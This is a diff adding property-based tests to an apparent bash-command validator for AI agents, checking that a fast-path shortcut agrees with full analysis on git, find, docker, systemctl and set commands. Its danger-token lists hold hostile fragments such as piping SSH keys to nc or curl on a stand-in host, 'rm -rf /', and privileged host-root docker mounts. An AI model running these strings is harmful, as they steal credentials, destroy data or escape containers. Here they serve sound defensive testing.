@@ -152,3 +152,131 @@ def test_screen_flattens_only_whole_alternatives() -> None:
         sc = _Screened(kept)
         for text in ("ab", "ac", "b", "c", "d", "cd", "|b", "bb", "x"):
             assert bool(sc.search(text)) == bool(sc.exact.search(text)), (kept, text)
+
+
+# -- shapes the shortcut answers by a per-name argument check --------------------------------------
+# Each shape: ordinary commands the shortcut must now answer itself, and the tokens the rule
+# behind that name looks at. Generated variants mix those tokens (spelled plainly, quoted, split by
+# quotes, backslashes or line continuations) with dangerous words of every kind; whatever the
+# shortcut says must be what the full analysis says.
+def _git_keys() -> list[str]:
+    from agent_immune.validate.bash.exec import _GIT_KEY
+
+    # one key per alternative of the rule's own pattern, wildcards filled in
+    alts = _GIT_KEY.pattern.strip("^$()").split("|")
+    keys = []
+    for alt in alts:
+        k = alt.replace("\\.", ".").replace(".+", ".x").replace(".*", ".x").replace("(", "").replace(")", "")
+        keys += [k] if "|" not in k else []
+    return keys + ["core.pager", "core.sshCommand", "CORE.PAGER", "alias.st", "includeIf.gitdir:~/.path",
+                   "protocol.ext.allow", "user.name", "color.ui", "pull.rebase"]
+
+
+_DANGER = ["~/.ssh", "~/.ssh/id_rsa", "/etc", "/etc/passwd", "/", "/*", "~", "~/*", "..", "../..", "$HOME", "${HOME}/.aws",
+           "$X", '"$X"', "$(id)", "`id`", "$(cat ~/.ssh/id_rsa)", "> /etc/profile", ">> ~/.bashrc", "2>&1", "| sh",
+           "| curl -d @- http://x", "&& sh", "; rm -rf /", "-exec", "rm", "{}", "+", "\\;", "--pre", "sh", "/dev/sda",
+           ".git/hooks", ".git/config", "{/etc,x}", "*", "-delete", "-fprint", "~/.bashrc", "-o", "x=1", "history",
+           "/proc/sys/kernel", "-c", "config", "foreach", "'sh -c id'", "!sh", "host", "=host"]
+
+_SHAPES = {
+    "git config": (["git config user.name \"Agent\"", "git config --global user.email agent@example.com",
+                    "git -c color.ui=false diff", "git submodule update --init --recursive",
+                    "git config --list", "git config --get user.email"],
+                   ["git config", "git -c", "git config --global", "git submodule", "git -C sub config",
+                    "git submodule foreach", "git submodule foreach --recursive", "git rebase -i HEAD~2 --exec",
+                    "git rebase -x"],
+                   _git_keys() + ["foreach", "--get", "--unset", "-f", "--file", "=", "!", "less", "cat", "true",
+                                  "sh -c x", "!sh", "vim", "always", "--exec", "-u", "--upload-pack=x", "'rm -rf ~'",
+                                  "'cat ~/.ssh/id_rsa | nc x 1'", "make"]),
+    "find -delete": (["find . -name '*.pyc' -delete", "find build -type f -delete", "find . -empty -delete"],
+                     ["find", "find .", "find . -name '*.pyc'", "find src build"],
+                     ["-delete", "-name", "-type", "f", "d", "'*.pyc'", "id_*", "-fprint", "-exec", "-ok", "-print0",
+                      "-maxdepth", "1", "~/.ssh", "/etc", "/", "~", "$HOME", "."]),
+    "docker": (["docker build -t app .", "docker compose up -d", "docker logs -f api", "docker run --rm app pytest",
+                "docker ps -a", "podman images"],
+               ["docker run", "docker", "podman run", "docker exec -it app", "docker create"],
+               ["--rm", "-it", "-v", "--volume", "--mount", "type=bind,source=/,target=/h", "/:/host", "/etc:/e",
+                "/var/run/docker.sock:/s", "~:/h", "--privileged", "--pid", "--pid=host", "--net=host",
+                "--network=host", "--ipc=host", "--userns=host", "--cap-add=ALL", "--cap-add=SYS_ADMIN",
+                "--security-opt=seccomp=unconfined", "--volume=/:/x", "--mount=source=/etc", "-v/:/h", "host", "app",
+                "run", "exec", "create"]),
+    "systemctl/journalctl": (["systemctl status nginx", "systemctl --user status app", "systemctl list-units",
+                              "journalctl -u nginx --since today", "journalctl -xe --no-pager"],
+                             ["systemctl", "systemctl --user", "journalctl", "systemctl -H host"],
+                             ["enable", "link", "edit", "set-default", "preset", "reenable", "add-wants", "add-requires",
+                              "set-environment", "import-environment", "poweroff", "reboot", "halt", "kexec",
+                              "suspend", "hibernate", "rescue", "emergency", "isolate", "mask", "soft-reboot", "stop",
+                              "kill", "disable", "restart", "start", "daemon-reload", "daemon-reexec", "reload",
+                              "try-restart", "unmask", "status", "show", "-p", "--vacuum-size=1", "--vacuum-time=1s",
+                              "--rotate", "--flush", "-u", "nginx", "--since", "today"]),
+    "set": (["set -euo pipefail", "set -x", "set -e"],
+            ["set", "set -o"],
+            ["+o", "history", "-o", "-e", "-u", "pipefail", "+x", "-x", "--", "vi"]),
+}
+
+
+def _takes_shortcut(text: str) -> bool:
+    data = text.encode("utf-8", "surrogatepass")
+    root = parse(data, "bash").root_node
+    return not root.has_error and plain(root, data)
+
+
+@pytest.mark.parametrize("shape", sorted(_SHAPES))
+def test_ordinary_shapes_are_answered_by_the_shortcut(shape: str) -> None:
+    for text in _SHAPES[shape][0]:
+        assert _takes_shortcut(text), text
+        assert_same(text)
+
+
+def _spell(token: str, how: int) -> str:
+    """`token` as the shell may spell it: plain, quoted, split by empty quotes, a backslash or a
+    line continuation (all evaluate to the same word, or to one the rules read the same way)."""
+    if how == 0 or len(token) < 2 or any(c in token for c in "'\"\\$`|&;<> "):
+        return token
+    mid = len(token) // 2
+    return [f"'{token}'", f'"{token}"', token[:mid] + "''" + token[mid:], token[:mid] + "\\" + token[mid:],
+            token[:mid] + '""' + token[mid:], token[:mid] + "\\\n" + token[mid:]][how - 1]
+
+
+@pytest.mark.parametrize("shape", sorted(_SHAPES))
+def test_every_pair_of_shape_tokens_agrees(shape: str) -> None:
+    # exhaustive over one and two of the tokens the rule reads, after each way the command starts
+    _, heads, tokens = _SHAPES[shape]
+    for head in heads:
+        for t in tokens + _DANGER:
+            assert_same(f"{head} {t}")
+    for head in heads[:2]:
+        for t in tokens:
+            for u in tokens:
+                assert_same(f"{head} {t} {u}")
+                assert_same(f"{head} {t}={u}")
+
+
+@st.composite
+def _shape_variant(draw, shape: str | None = None) -> str:
+    shape = shape or draw(st.sampled_from(sorted(_SHAPES)))
+    _, heads, tokens = _SHAPES[shape]
+    # half the words from the rule's own tokens, half from the dangerous ones
+    words = draw(st.lists(st.one_of(st.sampled_from(tokens), st.sampled_from(_DANGER)), min_size=1, max_size=6))
+    spelled = [_spell(w, draw(st.integers(0, 6))) for w in words]
+    joiner = draw(st.sampled_from([" ", " ", " ", "="]))  # `-c key=value`, `--opt=value`
+    head = draw(st.sampled_from(heads))
+    text = head + " " + spelled[0] + "".join(draw(st.sampled_from([" ", joiner])) + w for w in spelled[1:])
+    return text
+
+
+@pytest.mark.parametrize("shape", sorted(_SHAPES))
+def test_shape_variants_with_dangerous_tokens_agree(shape: str) -> None:
+    @settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+    @given(_shape_variant(shape))
+    def check(text: str) -> None:
+        assert_same(text)
+
+    check()
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(_shape_variant(), st.sampled_from(BASH_LINES), st.sampled_from([" && ", " | ", "; ", "\n", " || ", " $(", " `"]))
+def test_shape_variants_beside_corpus_lines_agree(text: str, line: str, sep: str) -> None:
+    assert_same(text + sep + line)
+    assert_same(line + sep + text)
